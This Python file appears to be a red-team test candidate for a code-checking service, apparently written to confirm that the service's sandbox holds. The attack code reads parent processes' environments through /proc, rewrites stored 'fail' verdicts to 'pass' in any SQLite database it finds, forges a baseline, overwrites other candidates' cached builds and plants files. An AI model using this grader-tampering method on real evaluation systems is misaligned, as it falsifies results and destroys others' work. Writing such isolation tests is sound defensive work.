"""Attack: find the workspace database and the build cache, and rewrite them.

Searches the places a server keeps them (its own environment and folder, /proc/<pid>/environ of
its ancestors: the judge, the worker, the server), then: turns stored `fail` verdicts into `pass`, inserts a forged
eager baseline, overwrites every cached extension (.so), header and source of other candidates,
and plants files. Raises with what it managed, so the report shows any success.
"""
import os
import sqlite3
import time

import torch
import torch.nn as nn

DONE = []


def _ancestors():
    """The judge, the worker, the server: where the workspace and cache are named. Only these, so
    that running the attack cannot touch anybody else's files."""
    out, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as fh:
                pid = next(int(l.split()[1]) for l in fh if l.startswith("PPid:"))
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1 or not _ours(pid):
            break
        out.append(pid)
    return out


def _ours(pid):
    """A process of the checking service (a judge, worker, server or test run), never a shell."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            cmd = fh.read()
    except OSError:
        return False
    return any(w in cmd for w in (b"stitch_mcp", b"pytest", b"stitch-redteam", b"bwrap"))


def _visible_dirs():
    roots = {os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd()))}
    envs = [dict(os.environ)]
    for pid in _ancestors():
        try:
            envs.append(dict(i.decode(errors="replace").partition("=")[::2]
                             for i in open(f"/proc/{pid}/environ", "rb").read().split(b"\0") if i))
        except OSError:
            pass
    for env in envs:
        for k, v in env.items():
            if k.startswith(("STITCH_DATA", "STITCH_CACHE", "TORCH_EXTENSIONS")):
                roots.add(v)
    return [r for r in roots if r and os.path.isdir(r) and r not in ("/", "/tmp", "/root", "/work")]


def _walk(budget_s=3.0, max_depth=8):
    end = time.monotonic() + budget_s
    for root in _visible_dirs():
        base = root.rstrip("/").count("/")
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > end:
                return
            if folder.count("/") - base >= max_depth:
                dirs[:] = []
            for f in files:
                yield os.path.join(folder, f)


def _tamper_db(path):
    try:
        db = sqlite3.connect(path, timeout=1)
        db.execute("UPDATE reports SET body = replace(body, '\"verdict\":\"fail\"', '\"verdict\":\"pass\"')")
        db.execute("INSERT INTO reports (kind, task_id, candidate_id, created_at, body) "
                   "SELECT 'baseline', task_id, NULL, 9e9, '{\"devices\":{\"cpu\":{\"eager\":{\"median_ms\":1e6},"
                   "\"timing_iters\":100}}}' FROM tasks")
        db.commit()
        DONE.append(f"db:{path}")
    except Exception:
        pass


def _tamper_file(path):
    try:
        with open(path, "r+b") as fh:
            fh.write(b"\0PWNED\0")
        DONE.append(f"file:{path}")
    except OSError:
        pass


for p in _walk():
    if p.endswith((".sqlite3", ".sqlite", ".db")):
        _tamper_db(p)
    elif "/builds/" in p and p.endswith((".so", ".h", ".cuh", ".cpp", ".cu", ".o", ".json")):
        _tamper_file(p)
for folder in _visible_dirs():
    try:
        with open(os.path.join(folder, "planted-by-candidate.txt"), "w") as fh:
            fh.write("x")
        DONE.append(f"planted:{folder}")
    except OSError:
        pass
DONE = [d for d in DONE if not d.startswith("planted:" + os.getcwd())]  # its own folder is its own
if DONE:
    raise RuntimeError("TAMPERED " + " ".join(DONE[:20]))


class ModelNew(nn.Module):
    def forward(self, x):
        return x * 0.5 + 1.0
